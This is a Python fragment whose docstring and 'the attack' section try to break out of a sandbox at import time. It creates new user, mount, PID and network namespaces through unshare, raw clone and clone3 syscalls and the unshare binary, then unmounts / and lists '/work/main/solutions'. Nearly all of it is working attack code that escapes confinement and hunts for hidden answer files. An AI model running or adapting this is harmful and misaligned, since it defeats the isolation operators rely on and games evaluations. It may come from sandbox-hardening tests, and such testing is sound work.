"""Makes a fresh user namespace (full capabilities there) to unmount from inside it:
unshare() in every flavour, raw clone() with namespace flags, clone3(), the unshare
binary, then mounts and the solutions."""
# ---- the attack ----
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWPID, CLONE_NEWNET = 0x20000, 0x10000000, 0x20000000, 0x40000000


def attack():
    for name, flags in (("user", CLONE_NEWUSER), ("user+mnt", CLONE_NEWUSER | CLONE_NEWNS), ("mnt", CLONE_NEWNS),
                        ("net", CLONE_NEWNET), ("pid", CLONE_NEWPID)):
        if _sys("unshare " + name, "unshare", flags) is not None:
            _proof("unshare", name)
            _sys("umount2 / in new ns", "umount2", b"/", 2)
        _sys("raw unshare " + name, "syscall", 272, flags)
    # clone(CLONE_NEWUSER|SIGCHLD) used like fork
    for flags in (CLONE_NEWUSER | 17, CLONE_NEWNS | 17, CLONE_NEWPID | 17):
        pid = _sys(f"clone {flags:#x}", "syscall", 56, flags, 0, 0, 0, 0)
        if pid == 0:
            _proof("clone", flags)
            os._exit(0)
        if pid:
            os.waitpid(pid, 0)
    args = (ctypes.c_uint64 * 11)(CLONE_NEWUSER, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    pid = _sys("clone3 newuser", "syscall", 435, ctypes.byref(args), 88)
    if pid == 0:
        _proof("clone3", "")
        os._exit(0)
    import subprocess
    for cmd in (["unshare", "-Ur", "id"], ["unshare", "-Urm", "sh", "-c", "umount -l /; ls /work/main/solutions"],
                ["unshare", "-U", "--map-root-user", "--mount-proc", "-fp", "cat", "/proc/1/cmdline"]):
        out = _try(" ".join(cmd[:2]), subprocess.run, cmd, capture_output=True, timeout=5, text=True)
        if out is not None:
            _note(cmd[1], f"rc={out.returncode} {out.stdout.strip()[:60]} {out.stderr.strip()[:60]}")
            if out.returncode == 0:
                _proof("unshare-bin", out.stdout)


_try("attack at import", attack)
_try("hunt", _hunt)
